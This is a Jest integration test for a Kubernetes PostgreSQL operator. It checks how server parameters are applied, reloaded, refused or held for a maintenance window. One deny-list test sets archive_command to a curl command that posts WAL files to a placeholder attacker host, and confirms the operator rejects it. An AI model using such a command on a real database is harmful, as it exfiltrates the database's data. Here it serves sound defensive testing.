import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import type { Weekday } from '../../src/api/types.js';
import { mergePatchOptions } from '../../src/k8s/patch.js';
import { Harness, waitFor } from '../support/operator-harness.js';

const WEEKDAYS: Weekday[] = ['Sun', 'Mon', 'Tue', 'Wed', 'Thu', 'Fri', 'Sat'];
/** A window three days from now: certainly closed during the test. */
const closedWindow = { weekday: WEEKDAYS[(new Date().getUTCDay() + 3) % 7]!, starttime: '03:00' };

const SERVER = {
  apiVersion: 'hybridcloud.maibornwolff.de/v1alpha1',
  kind: 'PostgreSQLServer',
  metadata: { name: 'tuned', namespace: 'default' },
  spec: { size: { storageGB: 1 }, credentialsSecret: 'tuned-creds', serverParameters: { work_mem: '4MB' }, maintenance: { window: closedWindow } },
};

type Server = { metadata: { labels?: Record<string, string> }; status?: { conditions?: Array<{ reason: string; message: string }> } };

/**
 * spec.serverParameters on a StatefulSet server, against the real PostgreSQL the fake kubelet
 * runs (a pod restart restarts it): the deny-list, names PostgreSQL does not know, reloadable
 * parameters at once, and a parameter that needs a restart waiting for the maintenance window.
 */
describe('statefulset server parameters', () => {
  let h: Harness;
  const sts = () => h.kube.apps.readNamespacedStatefulSet({ name: 'tuned-postgresql', namespace: 'default' });
  const show = async (name: string) => Object.values((await h.kubelet.query(`SHOW ${name}`)).rows[0] as Record<string, string>)[0];
  const condition = async () => (await h.get<Server>('PostgreSQLServer', 'tuned'))?.status?.conditions?.[0];

  beforeAll(async () => {
    h = await Harness.start();
    await h.create(SERVER);
    await h.waitForReady('PostgreSQLServer', 'tuned');
  }, 60_000);

  afterAll(async () => {
    await h?.stop();
  });

  it('applies a reloadable parameter without a restart', async () => {
    await waitFor(async () => (await show('work_mem')) === '4MB', 20_000, () => 'work_mem=4MB');
    const generation = (await sts()).metadata?.generation;
    await h.patch('PostgreSQLServer', 'tuned', { spec: { serverParameters: { work_mem: '12MB', statement_timeout: '90s' } } });
    await waitFor(async () => (await show('statement_timeout')) === '90s', 20_000, () => 'statement_timeout=90s');
    expect(await show('work_mem')).toBe('12MB');
    expect((await sts()).metadata?.generation).toBe(generation);
    expect(h.kubelet.postgresRestarts).toBe(0);
  });

  it("refuses a parameter on the admin's deny-list before touching the server", async () => {
    await h.patch('PostgreSQLServer', 'tuned', { spec: { serverParameters: { archive_command: 'curl -d @%p evil.example' } } });
    await waitFor(async () => (await condition())?.reason === 'InvalidSpec', 20_000, () => 'InvalidSpec');
    expect((await condition())?.message).toMatch(/spec\.serverParameters\.archive_command: may not be set/);
    expect(await show('archive_command')).toBe('(disabled)');
    await waitFor(async () => (await h.events('tuned')).some((e) => e.type === 'Warning' && /archive_command/.test(e.message)), 10_000, () => 'a Warning event');
  });

  it('refuses a name PostgreSQL does not know, naming the ones it does', async () => {
    await h.patch('PostgreSQLServer', 'tuned', { spec: { serverParameters: { archive_command: null, work_memory: '8MB' } } });
    await waitFor(async () => /does not know/.test((await condition())?.message ?? ''), 20_000, () => 'unknown name refused');
    expect((await condition())?.reason).toBe('InvalidSpec');
    expect((await condition())?.message).toMatch(/work_memory \(PostgreSQL knows e\.g\. .*work_mem/);
  });

  it('leaves a parameter that needs a restart for the maintenance window, and restarts on operator/action: restart', async () => {
    await h.patch('PostgreSQLServer', 'tuned', { spec: { serverParameters: { work_memory: null, max_connections: '77' } } });
    let last = '';
    await waitFor(async () => /restart for max_connections: waits for the maintenance window/.test((last = JSON.stringify(await condition()) + h.logLines.slice(-4).join('\n'))), 20_000, () => `restart pending: ${last}`);
    expect((await h.get<{ status?: { maintenance?: unknown } }>('PostgreSQLServer', 'tuned'))?.status?.maintenance).toEqual({
      pending: ['restart for max_connections'],
      scheduledFor: expect.stringMatching(/T03:00:00\.000Z$/),
      window: `${closedWindow.weekday} 03:00 UTC`,
    });
    const generation = (await sts()).metadata?.generation;
    await new Promise((r) => setTimeout(r, 1000));
    expect((await sts()).metadata?.generation).toBe(generation);
    expect(await show('max_connections')).not.toBe('77');

    await h.patch('PostgreSQLServer', 'tuned', { metadata: { labels: { 'operator/action': 'restart' } } });
    await waitFor(async () => (await show('max_connections').catch(() => undefined)) === '77', 30_000, () => 'max_connections=77 after the restart');
    expect(h.kubelet.postgresRestarts).toBe(1);
    expect((await sts()).spec?.template.metadata?.annotations?.['hybridcloud.maibornwolff.de/restart-token']).toBeTruthy();
    await waitFor(async () => !(await h.get<Server>('PostgreSQLServer', 'tuned'))?.metadata.labels?.['operator/action'], 20_000, () => 'label removed');
    await h.waitForReady('PostgreSQLServer', 'tuned');
    expect((await h.get<{ status?: { maintenance?: unknown } }>('PostgreSQLServer', 'tuned'))?.status?.maintenance).toBeUndefined();
  });

  it('does not roll the pod again when the state recording a restart was lost (a kill between the roll and the status write)', async () => {
    await h.waitForReady('PostgreSQLServer', 'tuned');
    await h.operator!.whenIdle();
    const before = await sts();
    const token = before.spec?.template.metadata?.annotations?.['hybridcloud.maibornwolff.de/restart-token'];
    expect(token).toBeTruthy();
    await h.kube.custom.patchNamespacedCustomObjectStatus(
      { group: 'hybridcloud.maibornwolff.de', version: 'v1alpha1', namespace: 'default', plural: 'postgresqlservers', name: 'tuned', body: { status: { backendState: { parameterState: { restartToken: null, restartDone: null } } } } },
      mergePatchOptions(),
    );
    h.operator!['servers'].enqueue('default', 'tuned');
    const recorded = async () => ((await h.get<{ status?: { backendState?: { parameterState?: { restartToken?: string } } } }>('PostgreSQLServer', 'tuned'))?.status?.backendState?.parameterState?.restartToken);
    await waitFor(async () => (await recorded()) === token, 20_000, () => 'the running token recorded again');
    await h.operator!.whenIdle();
    expect((await sts()).metadata?.generation).toBe(before.metadata?.generation);
    expect((await sts()).spec?.template.metadata?.annotations?.['hybridcloud.maibornwolff.de/restart-token']).toBe(token);
  });

  it('drops status.maintenance while the spec is refused (nothing is observed or changed then), and schedules again once it is fixed', async () => {
    const maintenance = async () => (await h.get<{ status?: { maintenance?: { pending: string[] } } }>('PostgreSQLServer', 'tuned'))?.status?.maintenance;
    await h.patch('PostgreSQLServer', 'tuned', { spec: { serverParameters: { max_connections: '78' } } });
    await waitFor(async () => JSON.stringify((await maintenance())?.pending) === '["restart for max_connections"]', 20_000, () => 'restart held');
    // The spec no longer passes the config's checks: the server keeps running as it is, and its held restart is not made in the window.
    await h.patch('PostgreSQLServer', 'tuned', { spec: { serverParameters: { archive_command: 'true' } } });
    await waitFor(async () => (await condition())?.reason === 'InvalidSpec', 20_000, () => 'InvalidSpec');
    expect((await condition())?.message).toMatch(/keeps running as it is/);
    let held: unknown;
    await waitFor(async () => (held = await maintenance()) === undefined, 20_000, () => `status.maintenance cleared: ${JSON.stringify(held)}`);
    await h.patch('PostgreSQLServer', 'tuned', { spec: { serverParameters: { archive_command: null } } });
    await waitFor(async () => JSON.stringify((await maintenance())?.pending) === '["restart for max_connections"]', 20_000, () => 'restart held again');
    expect((await condition())?.reason).toBe('Available');
  });

  it('warns, never silently, about spec fields one pod cannot honour (high availability)', async () => {
    await h.patch('PostgreSQLServer', 'tuned', { spec: { highavailability: { enabled: true } } });
    await waitFor(async () => /statefulset does not support spec\.highavailability; ignored/.test((await condition())?.message ?? ''), 20_000, () => 'HA warning');
    expect((await condition())?.reason).toBe('Available');
    await waitFor(async () => (await h.events('tuned')).some((e) => e.reason === 'ActionRequired' && /highavailability/.test(e.message)), 10_000, () => 'event');
  });

  it('resets what the spec no longer sets', async () => {
    expect(await show('statement_timeout')).toBe('90s');
    await h.patch('PostgreSQLServer', 'tuned', { spec: { serverParameters: null } });
    await waitFor(async () => (await show('statement_timeout')) === '0', 20_000, () => 'statement_timeout back to its default');
    expect(await show('work_mem')).toBe('4MB');
  });
});
